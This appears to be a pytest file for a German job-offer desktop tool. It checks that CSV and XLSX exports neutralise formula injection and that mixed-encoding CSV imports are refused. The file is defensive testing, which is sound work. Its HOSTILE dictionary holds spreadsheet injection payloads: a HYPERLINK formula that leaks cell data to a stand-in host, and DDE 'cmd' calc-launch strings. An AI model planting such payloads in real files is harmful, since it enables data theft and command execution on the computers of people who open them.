"""`srek-desk import` then `export` as an attacker tried it (issue 17): no formula comes out, and
a file mixing encodings is refused unless `--encoding` is given."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

from openpyxl import load_workbook

HOSTILE = {
    "H-1": '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    "H-2": "=cmd|' /C calc'!A0",
    "H-3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "H-4": "-2+3+cmd|' /C calc'!A0",
    "H-5": "+1+cmd|' /C calc'!A0",
}


def run(*args: str, db: Path) -> subprocess.CompletedProcess[str]:
    environment = {**os.environ, "QT_QPA_PLATFORM": "offscreen", "SREK_DB": str(db)}
    return subprocess.run(
        [sys.executable, "-m", "srek_desk", *args],
        capture_output=True,
        text=True,
        env=environment,
        timeout=120,
    )


def hostile_offer_file(tmp_path: Path) -> Path:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\n")
    writer.writerow(["Referenznummer", "Angebotsart", "Titel", "Arbeitgeber", "PLZ", "Ort"])
    for reference, text in HOSTILE.items():
        writer.writerow([reference, "Ausbildung", text, text, "34117", "Kassel"])
    path = tmp_path / "kammer.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def test_exported_offers_carry_no_formula(tmp_path: Path) -> None:
    db = tmp_path / "cli.sqlite3"
    imported = run("import", str(hostile_offer_file(tmp_path)), "--source", "Kammer", db=db)
    assert imported.returncode == 0, imported.stderr
    xlsx, text = tmp_path / "liste.xlsx", tmp_path / "liste.csv"
    for target in (xlsx, text):
        exported = run("export", str(target), "--source", "Kammer", "--json", db=db)
        assert exported.returncode == 0, exported.stderr
        assert json.loads(exported.stdout)["offers"] == len(HOSTILE)

    sheet = load_workbook(xlsx).active
    assert sheet is not None
    rows = [[cell for cell in row] for row in sheet.iter_rows()]
    assert [c.coordinate for row in rows for c in row if c.data_type == "f"] == []
    header = [cell.value for cell in rows[0]]
    reference, title, employer = (
        header.index(x) for x in ("Referenznummer", "Titel", "Arbeitgeber")
    )
    texts = {row[reference].value: (row[title].value, row[employer].value) for row in rows[1:]}
    assert texts == {key: (value, value) for key, value in HOSTILE.items()}
    positions = header.index("Anzahl Stellen")
    assert [row[positions].data_type for row in rows[1:]] == ["n"] * len(HOSTILE)  # numbers stay

    lines = list(csv.reader(io.StringIO(text.read_bytes().decode("utf-8-sig")), delimiter=";"))
    header = lines[0]
    reference, title, employer = (
        header.index(x) for x in ("Referenznummer", "Titel", "Arbeitgeber")
    )
    cells = {line[reference]: (line[title], line[employer]) for line in lines[1:]}
    assert cells == {key: ("'" + value, "'" + value) for key, value in HOSTILE.items()}
    starts = [cell for line in lines for cell in line if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert starts == []

    # the file SREK Desk wrote imports again unchanged: the apostrophe is the export's, not data
    again = run("import", str(text), "--source", "Kammer", "--json", db=db)
    assert again.returncode == 0, again.stderr
    report = json.loads(again.stdout)
    assert (report["new"], report["updated"], report["unchanged"]) == (0, 0, len(HOSTILE))


def test_mixed_encoding_is_refused_unless_named(tmp_path: Path) -> None:
    db = tmp_path / "cli.sqlite3"
    path = tmp_path / "klienten.csv"
    path.write_bytes(
        "Kundennummer;Vorname;Nachname;PLZ\nKD-1;Ayşe;Yıldız;34117\nKD-2;Jürgen;Weiß;34117\n".encode()
        + "KD-3;Lena;Schäfer;37213\n".encode("cp1252")
    )
    refused = run("import", str(path), "--kind", "clients", "--json", db=db)
    assert refused.returncode == 1
    assert json.loads(refused.stdout)["status"] == "refused"
    assert (
        "Fehler: Die Datei klienten.csv mischt zwei Zeichenkodierungen: Zeile 4" in refused.stderr
    )
    assert "Traceback" not in refused.stderr

    wrong = run("import", str(path), "--kind", "clients", "--encoding", "utf-8", db=db)
    assert wrong.returncode == 1
    assert "passt in Zeile 4 nicht zur angegebenen Zeichenkodierung utf-8" in wrong.stderr
    unknown = run("import", str(path), "--kind", "clients", "--encoding", "ebcdic-xy", db=db)
    assert unknown.returncode == 1 and "Unbekannte Zeichenkodierung „ebcdic-xy“" in unknown.stderr

    named = run("import", str(path), "--kind", "clients", "--encoding", "cp1252", "--json", db=db)
    assert named.returncode == 0, named.stderr
    assert json.loads(named.stdout)["new"] == 3  # only now, and only as the person said
